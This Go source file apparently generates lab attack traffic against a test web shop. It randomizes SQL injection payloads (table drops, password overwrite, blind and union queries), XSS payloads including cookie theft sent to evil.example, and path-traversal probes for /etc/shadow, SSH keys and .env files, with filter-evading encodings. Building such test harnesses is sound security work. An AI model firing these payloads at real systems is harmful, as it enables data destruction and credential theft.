package lab

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"
)

const injections = 120 // probes of one kind

func injectSQL(ctx context.Context, r *raid)    { r.sendAll(ctx, r.injections(sqlPayload)) }
func injectScript(ctx context.Context, r *raid) { r.sendAll(ctx, r.injections(scriptPayload)) }

// injections puts payloads where attackers put them: searches, forms, paths,
// cookies, JSON.
func (r *raid) injections(payload func(*rand.Rand) string) []probe {
	probes := make([]probe, r.count(injections))
	for i := range probes {
		probes[i] = place(r.r, payload(r.r))
	}
	return probes
}

func place(r *rand.Rand, p string) probe {
	q := encode(r, p)
	switch n := r.IntN(20); {
	case n < 6:
		return probe{step: "search", target: "/search?q=" + q}
	case n < 10:
		return probe{step: "parameter", target: "/products/kyusu-aka?" + pick(r, []string{"ref", "id", "sort", "color"}) + "=" + q}
	case n < 14:
		form := "name=" + url.QueryEscape("見本 太郎") + "&mail=a%40example.jp&subject=" + url.QueryEscape("質問") + "&body=" + q
		return probe{step: "contact form", method: "POST", target: "/contact", body: form, form: true}
	case n < 16:
		return probe{step: "login form", method: "POST", target: "/login", body: "mail=" + q + "&password=x", form: true}
	case n < 17:
		body, _ := json.Marshal(map[string]any{"name": "a", "body": p})
		return probe{step: "json", method: "POST", target: "/contact", body: string(body), headers: [][2]string{{"Content-Type", "application/json"}}}
	case n < 18:
		return probe{step: "cookie", target: "/cart", headers: [][2]string{{"Cookie", "norendo=" + strings.NewReplacer(";", "%3B", " ", "%20", ",", "%2C", `"`, "%22").Replace(p)}}}
	}
	return probe{step: "shelf", target: "/category/cha?page=" + q}
}

// encode writes a value for a URL or form in one of the ways tools do.
func encode(r *rand.Rand, s string) string {
	switch r.IntN(4) {
	case 0: // everything
		var b strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&b, "%%%02x", s[i])
		}
		return b.String()
	case 1:
		return strings.ReplaceAll(url.QueryEscape(s), "+", "%20")
	}
	return url.QueryEscape(s)
}

// swapCase changes letters' case at random, which SQL and HTML do not mind.
func swapCase(r *rand.Rand, s string) string {
	return strings.Map(func(c rune) rune {
		if r.IntN(2) == 0 {
			return []rune(strings.ToUpper(string(c)))[0]
		}
		return c
	}, s)
}

func sqlPayload(r *rand.Rand) string {
	n := strconv.Itoa(1 + r.IntN(99))
	col := strings.TrimSuffix(strings.Repeat("null,", 1+r.IntN(6)), ",")
	s := pick(r, []string{
		"' or '" + n + "'='" + n,
		"' or " + n + "=" + n + "-- -",
		"\" or \"\"=\"",
		"1' and " + n + "=" + n + " union select " + col + "-- ",
		"-1 union all select " + col + " from information_schema.tables",
		"1 union select name,sql from sqlite_master--",
		"'; drop table customers;--",
		"1; update customers set password='x' where id=1--",
		"1' and sleep(" + n + ")#",
		"1'||pg_sleep(" + n + ")--",
		"1' waitfor delay '0:0:" + n + "'--",
		"' and extractvalue(1,concat(0x7e,(select version())))-- ",
		"1' and (select count(*) from mysql.user)>0-- ",
		"急須' or 'a'='a",
		"admin'--",
		"1' and 1=(select 1 from (select sleep(" + n + "))a)-- ",
		"') or ('" + n + "'='" + n,
		"1' order by " + n + "-- -",
		"1 and ascii(substring((select password from admins limit 1),1,1))>" + n,
		"1' union select load_file('/etc/passwd')-- ",
	})
	switch r.IntN(4) {
	case 0:
		s = swapCase(r, s)
	case 1:
		s = strings.ReplaceAll(s, " ", "/**/")
	}
	return s
}

func scriptPayload(r *rand.Rand) string {
	n := strconv.Itoa(1 + r.IntN(999))
	s := pick(r, []string{
		"<script>alert(" + n + ")</script>",
		"\"><script src=//evil.example/" + n + ".js></script>",
		"<img src=x onerror=alert(" + n + ")>",
		"<svg/onload=alert(" + n + ")>",
		"<svg><animate onbegin=alert(" + n + ") attributeName=x dur=1s>",
		"'\"><body onload=alert(" + n + ")>",
		"<iframe src=javascript:alert(" + n + ")>",
		"<a href=\"javascript:alert(" + n + ")\">お得なクーポン</a>",
		"<input autofocus onfocus=alert(document.cookie)>",
		"<details open ontoggle=alert(" + n + ")>",
		"<video><source onerror=\"alert(" + n + ")\">",
		"<script>fetch('//evil.example/?c='+document.cookie)</script>",
		"<script>document.location='http://evil.example/'+document.cookie</script>",
		"急須</title><script>alert(" + n + ")</script>",
		"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
		"<marquee onstart=alert(" + n + ")>特価</marquee>",
		"＜script＞alert(" + n + ")＜/script＞",
		"<math><mtext><img src=x onerror=alert(" + n + ")>",
	})
	if r.IntN(4) == 0 {
		s = strings.NewReplacer("script", swapCase(r, "script"), "onerror", swapCase(r, "onerror"), "onload", swapCase(r, "onload")).Replace(s)
	}
	return s
}

const traversals = 96

// traverse climbs out of the shop's folders, in parameters and in the path.
func traverse(ctx context.Context, r *raid) {
	probes := make([]probe, r.count(traversals))
	for i := range probes {
		probes[i] = climb(r.r)
	}
	r.sendAll(ctx, probes)
}

func climb(r *rand.Rand) probe {
	up := pick(r, []string{"../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "..%5c", "....//", "..;/"})
	goal := pick(r, []string{"etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", "var/www/html/wp-config.php", "root/.ssh/id_rsa", "home/shop/.env"})
	path := strings.Repeat(up, 3+r.IntN(6)) + goal
	switch n := r.IntN(10); {
	case n < 4:
		return probe{step: "parameter", target: "/products/kyusu-aka?" + pick(r, []string{"file", "page", "path", "template", "download"}) + "=" + path}
	case n < 5:
		return probe{step: "absolute", target: "/search?q=" + pick(r, []string{"/etc/passwd", "file:///etc/passwd", "/etc/passwd%00.html", "php://filter/convert.base64-encode/resource=index.php", "/proc/self/environ"})}
	case n < 7:
		return probe{step: "form", method: "POST", target: "/contact", body: "name=a&mail=a%40example.jp&subject=b&body=" + path, form: true}
	}
	// The Go server refuses some of these by itself; a real shop's server need not.
	return probe{step: "path", target: "/assets/" + path}
}
